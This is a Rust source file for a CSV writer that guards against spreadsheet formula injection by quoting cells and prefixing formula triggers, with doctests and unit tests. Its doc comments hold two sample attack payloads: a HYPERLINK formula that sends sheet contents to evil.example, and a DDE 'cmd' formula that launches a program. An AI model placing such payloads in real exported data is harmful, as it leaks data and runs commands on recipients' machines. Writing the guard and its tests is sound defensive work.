//! CSV for spreadsheet users, safe against formula injection.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
//! Excel, LibreOffice and Google Sheets (OWASP "CSV Injection"): a contact whose name is
//! `=HYPERLINK("https://evil.example/?"&A1, "click")` would leak the sheet. [`CsvWriter`] prefixes
//! such cells with `'`, which spreadsheets show as text, and quotes cells per RFC 4180.

use std::borrow::Cow;
use std::io::Write;

use crate::{Error, Result};

/// Neutralises a cell that a spreadsheet would treat as a formula: if it starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return, a `'` is put in front.
///
/// ```
/// use pdpo_export::formula_safe;
/// assert_eq!(formula_safe("=1+2"), "'=1+2");
/// assert_eq!(formula_safe("-5"), "'-5");
/// assert_eq!(formula_safe("陳大文"), "陳大文");
/// ```
pub fn formula_safe(cell: &str) -> Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// Writes RFC 4180 CSV (CRLF line ends, quotes where needed) with every cell passed through
/// [`formula_safe`]. Call [`CsvWriter::finish`] to flush and get the writer back.
///
/// ```
/// use pdpo_export::CsvWriter;
/// let mut csv = CsvWriter::new(Vec::new(), "people.csv");
/// csv.write_row(["name", "note"])?;
/// csv.write_row(["=cmd|' /C calc'!A0", "says \"hi\", twice"])?;
/// let bytes = csv.finish()?;
/// assert_eq!(
///     String::from_utf8(bytes).unwrap(),
///     "name,note\r\n'=cmd|' /C calc'!A0,\"says \"\"hi\"\", twice\"\r\n"
/// );
/// # Ok::<(), pdpo_export::Error>(())
/// ```
#[derive(Debug)]
pub struct CsvWriter<W: Write> {
    out: W,
    file: String,
    rows: u64,
}

impl<W: Write> CsvWriter<W> {
    /// A writer over `out`; `file` names it in errors.
    pub fn new(out: W, file: impl Into<String>) -> Self {
        Self { out, file: file.into(), rows: 0 }
    }

    /// Writes one row.
    pub fn write_row<I, S>(&mut self, cells: I) -> Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let err = |e: std::io::Error| Error::write(&self.file, e);
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.write_all(b",").map_err(err)?;
            }
            let cell = formula_safe(cell.as_ref());
            if cell.contains([',', '"', '\n', '\r']) {
                self.out.write_all(b"\"").map_err(err)?;
                self.out.write_all(cell.replace('"', "\"\"").as_bytes()).map_err(err)?;
                self.out.write_all(b"\"").map_err(err)?;
            } else {
                self.out.write_all(cell.as_bytes()).map_err(err)?;
            }
        }
        self.out.write_all(b"\r\n").map_err(err)?;
        self.rows += 1;
        Ok(())
    }

    /// Rows written so far.
    pub fn rows(&self) -> u64 {
        self.rows
    }

    /// Flushes and returns the writer.
    pub fn finish(mut self) -> Result<W> {
        self.out.flush().map_err(|e| Error::write(&self.file, e))?;
        Ok(self.out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_trigger_is_prefixed() {
        for t in ["=A1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(formula_safe(t), format!("'{t}"), "{t:?}");
        }
        for ok in ["", "a=b", " =x", "'=x", "1-2"] {
            assert_eq!(formula_safe(ok), ok);
        }
    }

    #[test]
    fn quoting_and_guard_together() {
        let mut csv = CsvWriter::new(Vec::new(), "t.csv");
        csv.write_row(["-2,3", "line\nbreak", "\r=x"]).unwrap();
        assert_eq!(csv.rows(), 1);
        let s = String::from_utf8(csv.finish().unwrap()).unwrap();
        assert_eq!(s, "\"'-2,3\",\"line\nbreak\",\"'\r=x\"\r\n");
    }
}
